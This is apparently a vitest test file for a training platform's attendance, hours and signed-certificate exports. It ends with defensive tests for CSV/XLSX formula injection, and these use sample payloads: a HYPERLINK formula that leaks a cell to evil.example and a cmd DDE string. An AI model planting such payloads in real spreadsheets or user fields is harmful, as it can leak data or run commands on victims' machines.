import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { issueCertificate, revokeCertificate } from '../../src/proof/certificates.js';
import { loadOrCreateSigningKey } from '../../src/proof/keys.js';
import { verifyProofFile } from '../../src/proof/envelope.js';
import { exportFile } from '../../src/proof/exports.js';
import { translator } from '../../src/i18n/index.js';
import * as people from '../../src/institutions/store.js';
import { inTransaction } from '../../src/db/client.js';
import { DAY, T0, addSession, credit, proofWorld, type World } from './fixtures.js';

let w: World;
let admin: string;
const MARCH = 'from=2026-03-01&to=2026-03-31';

beforeAll(async () => {
  w = await proofWorld();
  admin = await w.login('admin@a.example');
});

async function download(kind: string, format: string, range = MARCH, cookie = admin) {
  const res = await w.request(`/admin/cohorts/${w.a.cohort.id}/proof/export?kind=${kind}&format=${format}&${range}`, { cookie });
  expect(res.status).toBe(200);
  return res;
}

describe('attendance matrix', () => {
  it('is a UTF-8 CSV with a BOM, trainees × sessions, with statuses', async () => {
    const res = await download('attendance', 'csv');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain(`attendance-cohort${w.a.cohort.id}-2026-03-01-2026-03-31.csv`);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parse(bytes, { bom: true });
    expect(rows[0]!.slice(0, 3)).toEqual(['学员编号', '姓名', '证件号码（部分隐去）']);
    expect(rows[0]!.slice(3)).toEqual(['03-02 09:00 面授 第 1 讲', '03-03 09:00 面授 第 2 讲', '03-04 09:00 面授 第 3 讲', '03-05 09:00 远程学习 远程答疑']);
    // Ordered by name, then id; every enrolled trainee appears, with or without records.
    expect(rows.slice(1).map((r) => r[1])).toEqual(['trainee 用户', '李晓梅', '赵小刚']);
    expect(rows[2]).toEqual([String(w.ready.id), '李晓梅', '110***********002X', '出勤', '出勤', '出勤', '已计课时']);
    expect(rows[3]).toEqual([String(w.behind.id), '赵小刚', '110***********0021', '迟到', '缺勤', '', '']);
    expect(rows[1]!.slice(3)).toEqual(['', '', '', '']);
  });

  it('is an XLSX with a frozen header, typed columns and an about sheet', async () => {
    const res = await download('attendance', 'xlsx');
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await res.arrayBuffer());
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('出勤表');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const row = sheet.getRow(3);
    expect(row.getCell(1).value).toBe(w.ready.id);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(2).value).toBe('李晓梅');
    expect(row.getCell(7).value).toBe('已计课时');
    const about = book.worksheets[1]!;
    expect(about.name).toBe('说明');
    const cutoff = about.getColumn(2).values.find((v) => v instanceof Date) as Date;
    expect(cutoff.toISOString()).toBe('2026-03-31T16:00:00.000Z');
    // The level by the programme's name, not its code (the JSON below keeps the code).
    const levelRow = about.getSheetValues().find((r) => Array.isArray(r) && r[1] === '级别') as unknown[];
    expect(levelRow[2]).toBe('助理级银行客户经理');
    expect(about.getColumn(2).values).not.toContain('assistant');
  });

  it('is JSON with status codes and credited minutes per cell', async () => {
    const body = await (await download('attendance', 'json')).json();
    expect(body.format).toBe('bcm-export@1');
    expect(body.meta).toMatchObject({
      level: 'assistant',
      cohortId: w.a.cohort.id,
      from: '2026-03-01',
      to: '2026-03-31',
      recordedBefore: '2026-03-31T16:00:00.000Z',
    });
    const [s1, s2, , remote] = w.sessions.concat(w.remote).map((s) => `session${s.id}`);
    const ready = body.rows.find((r: { traineeId: number }) => r.traineeId === w.ready.id);
    expect(ready[s1!]).toEqual({ status: 'present', minutes: 180 });
    expect(ready[remote!]).toEqual({ status: 'credited', minutes: 90 });
    const behind = body.rows.find((r: { traineeId: number }) => r.traineeId === w.behind.id);
    expect(behind[s2!]).toEqual({ status: 'absent', minutes: 0 });
  });

  it('names the TIME_ZONE its days are on, and ends the range at that zone’s midnight', async () => {
    const berlin = await proofWorld({ TIME_ZONE: 'Europe/Berlin' });
    const res = await berlin.request(`/admin/cohorts/${berlin.a.cohort.id}/proof/export?kind=attendance&format=json&${MARCH}`, {
      cookie: await berlin.login('admin@a.example'),
    });
    expect(res.status).toBe(200);
    expect((await res.json()).meta).toMatchObject({ timeZone: 'Europe/Berlin', recordedBefore: '2026-03-31T22:00:00.000Z' });
  });

  it('only covers sessions starting inside the range', async () => {
    const rows: string[][] = parse(Buffer.from(await (await download('attendance', 'csv', 'from=2026-03-03&to=2026-03-04')).arrayBuffer()), { bom: true });
    expect(rows[0]!.slice(3)).toEqual(['03-03 09:00 面授 第 2 讲', '03-04 09:00 面授 第 3 讲']);
  });
});

describe('hours per trainee by mode', () => {
  it('reads back from CSV with class hours and minutes', async () => {
    const rows: Record<string, string>[] = parse(Buffer.from(await (await download('hours', 'csv')).arrayBuffer()), { bom: true, columns: true });
    const ready = rows.find((r) => r['姓名'] === '李晓梅')!;
    expect(ready).toMatchObject({ '面授（课时）': '12', '远程学习（课时）': '2', '自学（课时）': '2.67', '合计（课时）': '16.67', '合计（分钟）': '750' });
  });

  it('reads back from XLSX as numbers with a number format', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await (await download('hours', 'xlsx')).arrayBuffer());
    const sheet = book.worksheets[0]!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const row = sheet.getRows(2, 3)!.find((r) => r.getCell(2).value === '李晓梅')!;
    expect(row.getCell(6).value).toBe(2.67);
    expect(row.getCell(6).numFmt).toBe('0.00');
    expect(row.getCell(8).value).toBe(750);
  });

  it('counts ledger rows recorded inside the range only', async () => {
    const body = await (await download('hours', 'json', 'from=2026-03-05&to=2026-03-06')).json();
    const ready = body.rows.find((r: { traineeId: number }) => r.traineeId === w.ready.id);
    // The remote session (recorded 03-05) and the first self-study hour (03-06), nothing else.
    expect(ready).toMatchObject({ faceToFaceHours: 0, remoteHours: 2, selfStudyHours: 1.33, totalMinutes: 150 });
  });
});

describe('reproducible, streamed exports', () => {
  it('give the same file for the same range, whatever is recorded later', async () => {
    const first = {
      csv: Buffer.from(await (await download('attendance', 'csv')).arrayBuffer()),
      json: await (await download('hours', 'json')).text(),
    };
    // New ledger rows today (after the range) do not change what March says.
    credit(w.db, w.a.cohort, w.ready.id, 'selfStudy', 45, Date.now());
    const again = {
      csv: Buffer.from(await (await download('attendance', 'csv')).arrayBuffer()),
      json: await (await download('hours', 'json')).text(),
    };
    expect(again.csv.equals(first.csv)).toBe(true);
    expect(again.json).toBe(first.json);
  });

  // A cohort big enough that no file can be produced in one chunk.
  function bigCohort() {
    const big = people.createCohort(w.db, {
      institutionId: w.a.inst.id,
      name: `大班${Date.now()}`,
      level: 'assistant',
      startsOn: '2026-03-01',
      endsOn: '2026-06-30',
    });
    inTransaction(w.db, () => {
      for (let i = 0; i < 1500; i++) {
        const p = people.createUser(w.db, {
          email: `big${big.id}-${i}@a.example`,
          name: `学员${String(i).padStart(4, '0')}`,
          role: 'trainee',
          institutionId: w.a.inst.id,
        });
        people.enrol(w.db, big.id, p.id);
      }
    });
    return big;
  }

  const exportOf = (cohort: people.Cohort, kind: 'hours' | 'attendance', format: 'csv' | 'xlsx' | 'json') =>
    exportFile({
      db: w.db,
      cohort,
      institution: { code: 'A', name: 'A' },
      kind,
      format,
      range: { from: '2026-03-01', to: '2026-03-31' },
      classHourMinutes: 45,
      t: translator('zh-CN'),
    });

  it('reads through its own connection, so writes go on while a download is open', async () => {
    const file = exportOf(bigCohort(), 'hours', 'csv');
    const iterator = file.stream[Symbol.asyncIterator]();
    const head = await iterator.next();
    expect(String(head.value)).toContain('学员编号');
    expect(String(head.value)).not.toContain('学员1499');
    // better-sqlite3 refuses writes on a connection with an open iterator; the export has its own.
    expect(() => credit(w.db, w.a.cohort, w.behind.id, 'selfStudy', 1, Date.now())).not.toThrow();
    let rest = '';
    for (let r = await iterator.next(); !r.done; r = await iterator.next()) rest += String(r.value);
    expect(rest).toContain('学员1499');
  });

  it('lets go of its connection cleanly when the client goes away mid-download', async () => {
    const big = bigCohort();
    for (const format of ['csv', 'xlsx', 'json'] as const) {
      for (const kind of ['hours', 'attendance'] as const) {
        const file = exportOf(big, kind, format);
        const iterator = file.stream[Symbol.asyncIterator]();
        await iterator.next();
        const closed = new Promise((resolve) => file.stream.once('close', resolve));
        file.stream.destroy();
        await closed;
      }
    }
    // Give abandoned writers a moment to notice; an unhandled error here would fail the run.
    await new Promise((r) => setTimeout(r, 300));
    expect(() => credit(w.db, w.a.cohort, w.behind.id, 'selfStudy', 1, Date.now())).not.toThrow();
  });

  it('sends a bad request back to the page with a message', async () => {
    const res = await w.request(`/admin/cohorts/${w.a.cohort.id}/proof/export?kind=hours&format=pdf&${MARCH}`, { cookie: admin });
    expect(res.status).toBe(303);
    const reversed = await w.request(`/admin/cohorts/${w.a.cohort.id}/proof/export?kind=hours&format=csv&from=2026-03-31&to=2026-03-01`, { cookie: admin });
    expect(reversed.status).toBe(303);
  });
});

describe('the signed bundle for the programme office', () => {
  it('covers an institution and period, verifies offline, and is the same file when asked again', async () => {
    const env = {
      db: w.db,
      catalog: w.catalog,
      blueprints: w.exams.blueprints,
      signer: loadOrCreateSigningKey(w.config.signingKeyPath),
      publicUrl: w.config.publicUrl,
    };
    const r = issueCertificate(env, w.a.cohort, w.ready.id, w.a.admin.id, T0 + 10 * DAY);
    if (!r.ok) throw new Error('issue failed');
    // Revoked after the period: the bundle for March still shows it valid, as it was then.
    revokeCertificate(env, r.certificate.serial, w.a.inst.id, w.a.admin.id, '四月发现错误', Date.parse('2026-04-10T00:00:00Z'));
    const office = await w.user('office', null, 'office@example.com');
    const officeCookie = await w.login(office.email);
    const url = `/proof/bundle?institution=A&${MARCH}`;
    const res = await w.request(url, { cookie: officeCookie });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    const result = verifyProofFile(bytes, [env.signer]);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const facts = result.facts as { cohorts: { trainees: { name: string; totalMinutes: number }[] }[]; certificates: { serial: string; status: string }[] };
    expect(result.type).toBe('bcm.institution-bundle');
    expect(facts.cohorts[0]!.trainees.find((t) => t.name === '李晓梅')!.totalMinutes).toBe(750);
    expect(facts.certificates).toEqual([expect.objectContaining({ serial: r.certificate.serial, status: 'valid' })]);
    const again = Buffer.from(await (await w.request(url, { cookie: admin })).arrayBuffer());
    expect(again.equals(bytes)).toBe(true);
    // A period that includes April sees the revocation.
    const april = Buffer.from(await (await w.request('/proof/bundle?institution=A&from=2026-03-01&to=2026-04-30', { cookie: admin })).arrayBuffer());
    const aprilFacts = verifyProofFile(april, [env.signer]);
    expect(aprilFacts.ok && (aprilFacts.facts as typeof facts).certificates[0]!.status).toBe('revoked');
    expect((await w.request('/office/proof', { cookie: officeCookie })).status).toBe(200);
    expect(people.listInstitutions(w.db)).toHaveLength(2);
  });

  it('is explained in plain words, with the command and key format folded away for IT staff', async () => {
    const officeCookie = await w.login('office@example.com');
    for (const [url, cookie] of [
      ['/office/proof', officeCookie],
      [`/admin/cohorts/${w.a.cohort.id}/proof`, admin],
    ] as const) {
      const html = await (await w.request(url, { cookie })).text();
      const [plain, tech] = html.split('data-testid="verify-for-it"') as [string, string];
      expect(tech, url).toBeDefined();
      expect(plain, url).toContain('核验就不会通过');
      // Nothing technical before the IT staff's notes; all of it inside them.
      expect(plain, url).not.toMatch(/proof:verify|\bJWK\b|Ed25519/);
      const notes = tech.split('</details>')[0]!;
      expect(notes, url).toContain('npx bcm proof:verify');
      expect(notes, url).toContain('JWK');
      expect(notes, url).toContain('/.well-known/bcm-proof-keys.json');
    }
  });
});

describe('formula injection in the exports', () => {
  // Issue 11 item 7: names and session titles are typed by people; a CSV cell starting with
  // = + - @ (or a tab or carriage return) runs as a formula when a spreadsheet program opens it.
  const EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
  const EVIL_TITLE = '+cmd|" /C calc"!A0';

  async function hostileWorld() {
    const h = await proofWorld();
    const evil = people.createUser(h.db, { email: 'evil@a.example', name: EVIL_NAME, role: 'trainee', institutionId: h.a.inst.id });
    people.enrol(h.db, h.a.cohort.id, evil.id);
    const plus = people.createUser(h.db, { email: 'plus@a.example', name: '@SUM(1+1)', role: 'trainee', institutionId: h.a.inst.id });
    people.enrol(h.db, h.a.cohort.id, plus.id);
    const s = addSession(h.db, h.a.cohort, 'faceToFace', T0 + 5 * DAY, 60, EVIL_TITLE);
    credit(h.db, h.a.cohort, evil.id, 'faceToFace', 60, s.endsAt, s.id);
    return { h, cookie: await h.login('admin@a.example') };
  }

  const get = (h: World, cookie: string, kind: string, format: string) =>
    h.request(`/admin/cohorts/${h.a.cohort.id}/proof/export?kind=${kind}&format=${format}&${MARCH}`, { cookie });
  const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);

  it('neutralises names and session titles in every CSV export (attendance and hours)', async () => {
    const { h, cookie } = await hostileWorld();
    for (const kind of ['attendance', 'hours']) {
      const res = await get(h, cookie, kind, 'csv');
      expect(res.status).toBe(200);
      const rows: string[][] = parse(Buffer.from(await res.arrayBuffer()), { bom: true, relax_column_count: true });
      const cells = rows.flat();
      expect(cells).toContain(`'${EVIL_NAME}`);
      expect(cells).toContain(`'@SUM(1+1)`);
      expect(cells.filter(dangerous)).toEqual([]);
      if (kind === 'attendance') expect(rows[0]!.some((c) => c.includes(EVIL_TITLE))).toBe(true);
    }
  });

  it('writes names and session titles in every XLSX export as text cells, never as formulas', async () => {
    const { h, cookie } = await hostileWorld();
    for (const kind of ['attendance', 'hours']) {
      const res = await get(h, cookie, kind, 'xlsx');
      expect(res.status).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(await res.arrayBuffer());
      const sheet = book.worksheets[0]!;
      const found: ExcelJS.Cell[] = [];
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string' && (cell.value.includes('HYPERLINK') || cell.value.includes('cmd|'))) found.push(cell);
        }),
      );
      expect(found.map((c) => c.type)).toContain(ExcelJS.ValueType.String);
      expect(found.some((c) => c.value === EVIL_NAME)).toBe(true);
    }
  });
});
